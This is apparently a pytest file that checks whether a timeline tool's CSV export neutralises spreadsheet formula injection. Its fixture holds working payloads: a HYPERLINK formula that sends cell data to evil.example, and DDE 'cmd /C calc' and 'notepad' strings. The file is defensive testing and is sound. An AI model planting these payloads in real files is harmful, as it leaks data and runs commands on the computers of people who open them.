"""CSV injection (OWASP, CWE-1236): cells a spreadsheet would run as formulas get a leading
apostrophe unless the user asks for --raw; --bom writes the UTF-8 BOM Excel needs.

The hostile article is loaded through the user-annotation path (`kpolicy seed
--annotation`) into a database without the bundled article, so every exported title,
quote and source slug is attacker-controlled text. Runs on every engine.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import Cli
from robustness_helpers import write_annotation

from kpolicy.views import render

# (title, sentence) pairs: each sentence opens with a character a spreadsheet treats as a formula
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"North Korea missile test")',
     '=HYPERLINK("http://evil.example","click") North Korea fired two missiles on 4 May 2019.'),
    ("+cmd|' /C calc'!A0 summit", "+cmd|' /C calc'!A0 Kim Jong-un met Donald Trump in Hanoi in February 2019."),
    ("-2+3+cmd|' /C notepad'!A0 talks", "-2+3+cmd|' /C notepad'!A0 North Korea and the United States held talks in Stockholm in October 2019."),
    ("@SUM(1+9)*cmd|' /C calc'!A0 drill", "@SUM(1+9)*cmd|' /C calc'!A0 South Korea and the United States held a drill in August 2019."),
    ("statement with tab", "\t=1+1 North Korea issued a statement in December 2019."),
    ("statement with carriage return", "\r=1+1 China issued a statement in January 2020."),
]
TYPES = ["missile_test", "summit", "talks", "military_drill", "statement", "statement"]
DATES = ["2019-05-04", "2019-02", "2019-10", "2019-08", "2019-12", "2020-01"]
ACTORS = [["North Korea"], ["Kim Jong-un", "Donald Trump"], ["North Korea", "United States"],
          ["South Korea", "United States"], ["North Korea"], ["China"]]
SLUG = "@hostile-note"


@pytest.fixture
def hostile_db(empty_db, tmp_path) -> str:
    """A database holding only the hostile article (no bundled seed)."""
    cli = Cli(empty_db)
    assert cli("init").exit_code == 0
    text = "Hostile note\n\n" + " ".join(sentence for _, sentence in HOSTILE) + "\n"
    events = [
        {"title": title, "type": t, "date": d, "status": "occurred", "actors": a, "quote": sentence}
        for (title, sentence), t, d, a in zip(HOSTILE, TYPES, DATES, ACTORS)
    ]
    path = write_annotation(tmp_path / "notes", name="hostile", article=text, article_file="hostile.txt",
                            events=events, article_meta={"id": SLUG.lstrip("@")})
    result = cli("seed", "--annotation", str(path))
    assert result.exit_code == 0, result.stderr
    # an annotation's id is checked as a slug now (issue 24, item 27), so '@hostile-note' cannot
    # enter that way; a database written before the check may hold one, and exports still neutralise it
    import sqlalchemy as sa

    from kpolicy.store.db import resolve

    engine = sa.create_engine(resolve(empty_db).url)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE sources SET slug = :new WHERE slug = :old"), {"new": SLUG, "old": SLUG.lstrip("@")})
    engine.dispose()
    return empty_db


def _read(path: Path, encoding: str = "utf-8") -> list[dict]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.DictReader(fh))


def _originals() -> dict[str, str]:
    return {sentence: title for title, sentence in HOSTILE}


def test_export_neutralises_every_formula_cell(hostile_db, tmp_path):
    out = tmp_path / "timeline.csv"
    result = Cli(hostile_db)("export", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    raw_bytes = out.read_bytes()
    assert not raw_bytes.startswith(b"\xef\xbb\xbf")  # no BOM unless asked
    rows = _read(out)
    assert len(rows) == len(HOSTILE)
    titles = {title for title, _ in HOSTILE}
    sentences = {sentence for _, sentence in HOSTILE}
    for row in rows:
        for column in ("title", "quote", "source"):
            cell = row[column]
            if column == "title" and cell in titles:
                continue  # 'statement with tab': harmless text stays as written
            assert cell.startswith("'"), f"{column} cell {cell!r} is not neutralised"
            assert not cell[1:].startswith("'")  # exactly one apostrophe, the text kept after it
            if column == "title":
                assert cell[1:] in titles
        assert row["quote"][1:] in sentences
        assert row["source"] == "'" + SLUG
        # dates are data, never prefixed
        assert row["date"] in DATES
    seen_prefixes = {row["quote"][1] for row in rows}
    assert seen_prefixes == {"=", "+", "-", "@", "\t", "\r"}


def test_export_raw_keeps_cells_as_written(hostile_db, tmp_path):
    out = tmp_path / "raw.csv"
    result = Cli(hostile_db)("export", "--raw", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    rows = _read(out)
    assert {row["quote"] for row in rows} == {sentence for _, sentence in HOSTILE}
    assert {row["title"] for row in rows} == {title for title, _ in HOSTILE}
    assert {row["source"] for row in rows} == {SLUG}


def test_export_bom_is_opt_in_and_excel_ready(hostile_db, tmp_path):
    out = tmp_path / "excel.csv"
    result = Cli(hostile_db)("export", "--bom", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,date,start,end,")
    assert data.count(b"\xef\xbb\xbf") == 1
    rows = _read(out, encoding="utf-8-sig")
    assert list(rows[0]) == ["id", "date", "start", "end", "precision", "type", "status", "title", "actors", "place", "source", "quote",
                             "review", "confidence", "states", "sources", "wikidata", "cameo", "latitude", "longitude"]
    assert all(row["quote"].startswith("'") for row in rows)


def test_bom_and_raw_together_to_stdout(hostile_db):
    result = Cli(hostile_db)("export", "--bom", "--raw")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("\ufeffid,")
    rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff"), newline="")))
    assert {row["quote"] for row in rows} == {sentence for _, sentence in HOSTILE}


def test_events_csv_is_neutralised_too(hostile_db):
    result = Cli(hostile_db)("events", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(HOSTILE)
    assert all(row["quote"].startswith("'") for row in rows)
    assert sum(row["title"].startswith("'") for row in rows) == 4


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_every_formula_prefix_including_nul_is_neutralised(prefix):
    # NUL cannot be stored in a PostgreSQL text column, so it is checked at the writer
    out = io.StringIO()
    render.write_csv([{"quote": f"{prefix}1+1 cmd", "date": "-0001"}], ("quote", "date"), out, exempt=("date",))
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [{"quote": f"'{prefix}1+1 cmd", "date": "-0001"}]
    out = io.StringIO()
    render.write_csv([{"quote": f"{prefix}1+1 cmd"}], ("quote",), out, raw=True)
    assert list(csv.DictReader(io.StringIO(out.getvalue(), newline=""))) == [{"quote": f"{prefix}1+1 cmd"}]


def test_harmless_cells_are_left_alone():
    assert render.neutralise("North Korea tested") == "North Korea tested"
    assert render.neutralise("") == ""
    assert render.neutralise(None) is None
    assert render.neutralise(42) == 42
